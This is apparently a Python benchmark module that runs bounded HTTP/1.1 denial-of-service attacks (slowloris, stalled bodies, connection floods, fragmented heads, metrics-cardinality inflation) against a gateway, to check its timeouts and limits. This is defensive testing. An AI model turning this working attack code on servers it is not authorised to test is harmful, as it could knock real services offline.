"""The HTTP/1.1 attacks of :mod:`bench.attacks` (f–j) on EPP's gateway port.

Slow heads (f), trickled and stalled bodies (g), more connections than EPP has file descriptors (h, with EPP's
``RLIMIT_NOFILE`` lowered by the orchestrator), a large head in small pieces (i) and requests naming random models
(j). Each follows :mod:`bench.attacks_base`'s contract: bounded in count and time, every connection closed at the
end; f and g report when the server closed each connection.
"""

from __future__ import annotations

import asyncio
import secrets
import time
from collections import Counter

import aiohttp
import orjson

from bench.attacks_base import Closes, Outcome, Params, Target, close_all, open_tcp, watch_close, watch_until
from bench.gateway_load import cpu_times, request_body

__all__ = ["ATTACKS", "chat_head"]


def chat_head(length: int, extra: bytes = b"") -> bytes:
    """A chat completions request head announcing a ``length``-byte body."""
    return (b"POST /v1/chat/completions HTTP/1.1\r\nHost: epp\r\nContent-Type: application/json\r\n" + extra
            + b"Content-Length: %d\r\n\r\n" % length)


async def _trickle(writer: asyncio.StreamWriter, data: bytes, interval: float, until: float) -> None:
    """Write ``data`` one byte per ``interval`` until it is all sent, ``until`` passes or the connection fails."""
    for i in range(len(data)):
        if time.monotonic() >= until or writer.transport.is_closing():
            return
        try:
            writer.write(data[i:i + 1])
            await writer.drain()
        except (ConnectionError, OSError):
            return
        await asyncio.sleep(min(interval, max(0.0, until - time.monotonic())))


async def _watched(target: Target, first: bytes, rest: bytes, interval: float, watched: float,
                   slow_first: bool = False) -> float | None:
    """One connection: ``first`` at once (or one byte at a time with ``slow_first``), then ``rest`` one byte per
    ``interval``, while watching for the server to close it; seconds from open to close, or None."""
    reader, writer = await open_tcp(target.host, target.gateway_port)
    opened = time.monotonic()
    until = opened + watched
    try:
        data = first + rest if slow_first else rest
        if not slow_first:
            writer.write(first)
        sender = asyncio.create_task(_trickle(writer, data, interval, until))
        closed = await watch_close(reader, opened, until)
        sender.cancel()
        return closed
    finally:
        writer.transport.abort()


# -- f: slowloris heads -------------------------------------------------------------------------------------

async def slowloris(target: Target, p: Params) -> Outcome:
    """``p.slowloris`` connections each sending a request head one byte per ``p.slowloris_interval``."""
    timeout = p.timeouts.head
    watched = p.slowloris_seconds or watch_until(p, timeout, p.slowloris_interval)
    head = chat_head(2)
    times = await asyncio.gather(*(_watched(target, b"", head, p.slowloris_interval, watched, slow_first=True)
                                   for _ in range(p.slowloris)))
    return Outcome({"connections": f"{p.slowloris} heads at 1 byte per {p.slowloris_interval:g} s"},
                   Closes(timeout, watched, list(times)))


# -- g: trickled and stalled bodies -------------------------------------------------------------------------

async def trickled_bodies(target: Target, p: Params) -> Outcome:
    """``p.trickled`` requests sending ``p.trickle_after`` body bytes at once, then one byte per
    ``p.trickle_interval`` (of a body that would need ``p.stalled_size``). A trickle never pauses for a whole body
    timeout; a minimum rate taken over periods of the timeout closes it at the end of the first period without
    enough bytes, the second one here (the first holds the 9 MB): the closes are judged against two periods."""
    timeout = 2 * p.timeouts.body
    watched = watch_until(p, timeout)
    first = chat_head(p.stalled_size) + bytes(p.trickle_after)
    times = await asyncio.gather(*(_watched(target, first, b"x" * 100, p.trickle_interval, watched)
                                   for _ in range(p.trickled)))
    return Outcome({"connections": f"{p.trickled} bodies trickled after {p.trickle_after / 1e6:g} MB",
                    "judged against": f"2 x the body timeout ({p.timeouts.body:g} s)"},
                   Closes(timeout, watched, list(times)))


async def stalled_bodies(target: Target, p: Params) -> Outcome:
    """``p.stalled`` requests announcing ``p.stalled_size`` body bytes and sending one byte less, then nothing."""
    timeout = p.timeouts.body
    watched = watch_until(p, timeout)
    conns = await asyncio.gather(*(open_tcp(target.host, target.gateway_port) for _ in range(p.stalled)))
    opened = time.monotonic()
    request = chat_head(p.stalled_size) + bytes(p.stalled_size - 1)
    try:
        for _, writer in conns:
            writer.write(request)
        sent = await asyncio.gather(*(_drain(w, watched) for _, w in conns))
        took = time.monotonic() - opened
        times = await asyncio.gather(*(watch_close(r, opened, opened + watched) for r, _ in conns))
    finally:
        close_all([w for _, w in conns])
    return Outcome({"connections": f"{p.stalled} bodies stalled 1 byte short of {p.stalled_size / 1e6:g} MB",
                    "sent": f"{sum(sent)}/{p.stalled} complete in {took:.1f} s"}, Closes(timeout, watched, list(times)))


async def _drain(writer: asyncio.StreamWriter, timeout: float) -> bool:
    try:
        await asyncio.wait_for(writer.drain(), timeout)
        return True
    except (asyncio.TimeoutError, ConnectionError, OSError):
        return False


# -- h: more connections than file descriptors --------------------------------------------------------------

async def connection_flood(target: Target, p: Params) -> Outcome:
    """``p.flood`` connections, each sending the first byte of a head, held ``p.flood_seconds`` (the orchestrator
    runs EPP with ``RLIMIT_NOFILE`` ``p.flood_nofile``)."""
    async def one() -> tuple[asyncio.StreamReader, asyncio.StreamWriter] | None:
        try:
            reader, writer = await open_tcp(target.host, target.gateway_port, timeout=3.0)
        except (OSError, asyncio.TimeoutError):
            return None
        writer.write(b"P")
        return reader, writer

    opened = time.monotonic()
    conns = [c for c in await asyncio.gather(*(one() for _ in range(p.flood))) if c is not None]
    try:
        times = await asyncio.gather(*(watch_close(r, opened, opened + p.flood_seconds) for r, _ in conns))
    finally:
        close_all([w for _, w in conns])
    limit = f"EPP RLIMIT_NOFILE {p.flood_nofile}" if p.flood_nofile else "EPP's own fd limit"
    return Outcome({"connections": f"{len(conns)}/{p.flood} connected ({limit})"},
                   Closes(None, p.flood_seconds, list(times)))


# -- i: a large head in small pieces ------------------------------------------------------------------------

def padded_head(size: int, length: int) -> bytes:
    """A chat request head of exactly ``size`` bytes (1,100-byte padding headers, then one to fill), announcing a
    ``length``-byte body. The simulator behind EPP (aiohttp) takes at most 128 headers of 8 KiB each, so a 127 KiB
    head that EPP relays can be answered."""
    room = size - len(chat_head(length))
    count = (room - 10) // 1100
    last = room - 1100 * count
    pad = b"".join(b"X-Pad-%05d: %s\r\n" % (i, b"a" * 1085) for i in range(count))
    return chat_head(length, pad + b"X-Fill: " + b"b" * (last - 10) + b"\r\n")


async def head_in_pieces(target: Target, p: Params) -> Outcome:
    """A ``p.head_bytes`` request head (padding headers) sent ``p.piece`` bytes per write, each write waiting
    for the previous one to leave; then the answer's status line."""
    body = request_body(0, stream=False)
    head = padded_head(p.head_bytes, len(body)) + body
    reader, writer = await open_tcp(target.host, target.gateway_port)
    began, cpu = time.monotonic(), cpu_times(target.pid)
    try:
        for at in range(0, len(head), p.piece):
            writer.write(head[at:at + p.piece])
            await writer.drain()
            await asyncio.sleep(0.0005)  # a pause, so each piece reaches the server as its own read
        took = time.monotonic() - began
        answer = await _answer(reader, max(p.hold, 5.0))
        spent = _cpu_since(target.pid, cpu)
    finally:
        writer.transport.abort()
    return Outcome({"head": f"{len(head) - len(body):,} bytes in {-(-len(head) // p.piece):,} pieces over {took:.1f} s",
                    "answer": answer,
                    "EPP CPU from the first piece to the answer": f"{spent:.2f} s (the client's requests included)"})


def _cpu_since(pid: int, before: tuple[float, float] | None) -> float:
    """EPP's CPU seconds since ``before`` (a :func:`cpu_times` reading); NaN when unreadable."""
    after = cpu_times(pid)
    return sum(after) - sum(before) if after and before else float("nan")


async def _answer(reader: asyncio.StreamReader, timeout: float) -> str:
    """The status line of the answer and its error message, if any (what arrives within ``timeout``)."""
    data = b""
    deadline = time.monotonic() + timeout
    try:
        while len(data) < 4096 and time.monotonic() < deadline:
            chunk = await asyncio.wait_for(reader.read(4096), deadline - time.monotonic())
            if not chunk:
                break
            data += chunk
            if b"\r\n\r\n" in data and b"}" in data.split(b"\r\n\r\n", 1)[1]:
                break
    except (asyncio.TimeoutError, ConnectionError, OSError):
        pass
    if not data:
        return "none (connection closed or silent)"
    status = data.split(b"\r\n", 1)[0].decode("latin-1")
    try:
        message = orjson.loads(data.split(b"\r\n\r\n", 1)[1])["error"]["message"]
    except (IndexError, KeyError, TypeError, orjson.JSONDecodeError):
        return status
    return f"{status} ({str(message)[:80]})"


# -- j: random model names ----------------------------------------------------------------------------------

async def random_models(target: Target, p: Params) -> Outcome:
    """``p.models`` chat requests on one connection, each naming a new random model; the /metrics series that
    appeared meanwhile."""
    base = f"http://{target.host}"
    names = [f"attack-{secrets.token_hex(8)}" for _ in range(p.models)]
    timeout = aiohttp.ClientTimeout(total=10)
    statuses: Counter[str] = Counter()
    async with aiohttp.ClientSession(connector=aiohttp.TCPConnector(limit=1), timeout=timeout) as session:
        before = await _series(session, f"{base}:{target.metrics_port}/metrics")
        for name in names:
            body = orjson.dumps({"model": name, "max_tokens": 4, "messages": [{"role": "user", "content": "hi"}]})
            try:
                async with session.post(f"{base}:{target.gateway_port}/v1/chat/completions", data=body,
                                        headers={"Content-Type": "application/json"}) as resp:
                    await resp.read()
                    statuses[str(resp.status)] += 1
            except (aiohttp.ClientError, asyncio.TimeoutError):
                statuses["error"] += 1
        after = await _series(session, f"{base}:{target.metrics_port}/metrics")
    new = after - before
    naming = sum(1 for s in new if any(n in s for n in names))
    return Outcome({"answers": ", ".join(f"{k} ×{v}" for k, v in sorted(statuses.items())),
                    "new /metrics series": f"{len(new)} ({naming} naming the random models)"})


async def _series(session: aiohttp.ClientSession, url: str) -> set[str]:
    """The series (name and labels) of a Prometheus text page."""
    async with session.get(url) as resp:
        text = await resp.text()
    return {line.rsplit(" ", 1)[0] for line in text.splitlines() if line and not line.startswith("#")}


ATTACKS = {
    "f": slowloris,
    "g-trickle": trickled_bodies,
    "g-stalled": stalled_bodies,
    "h": connection_flood,
    "i": head_in_pieces,
    "j": random_models,
}
"""The HTTP/1.1 attacks by row name."""
